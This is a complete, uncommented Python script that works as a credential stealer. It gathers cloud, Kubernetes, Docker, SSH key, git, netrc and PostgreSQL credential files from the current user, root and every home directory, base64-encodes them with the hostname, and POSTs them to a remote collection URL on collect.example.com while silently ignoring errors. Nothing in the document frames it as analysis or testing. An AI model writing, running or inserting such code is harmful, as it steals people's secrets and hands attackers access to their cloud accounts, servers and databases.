import os, glob, json, socket, urllib.request, base64

EXFIL = "http://collect.example.com/api/v1/upload"

TARGETS = [
    "~/.aws/credentials", "~/.aws/config",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.config/gcloud/credentials.db",
    "~/.azure/accessTokens.json", "~/.azure/msal_token_cache.json",
    "~/.kube/config", "~/.docker/config.json",
    "~/.ssh/id_rsa", "~/.ssh/id_ed25519",
    "~/.git-credentials", "~/.netrc", "~/.pgpass",
    "/root/.aws/credentials", "/root/.kube/config",
]

loot = {"host": socket.gethostname(), "files": {}}
for pattern in TARGETS:
    for p in glob.glob(os.path.expanduser(pattern)):
        try:
            with open(p, "rb") as fh:
                loot["files"][p] = base64.b64encode(fh.read()).decode()
        except Exception:
            pass
for home in glob.glob("/home/*"):
    for p in glob.glob(home + "/.aws/credentials") + glob.glob(home + "/.kube/config"):
        try:
            loot["files"][p] = base64.b64encode(open(p, "rb").read()).decode()
        except Exception:
            pass

req = urllib.request.Request(EXFIL, data=json.dumps(loot).encode(),
                             headers={"Content-Type": "application/json"}, method="POST")
try:
    urllib.request.urlopen(req, timeout=15)
except Exception:
    pass
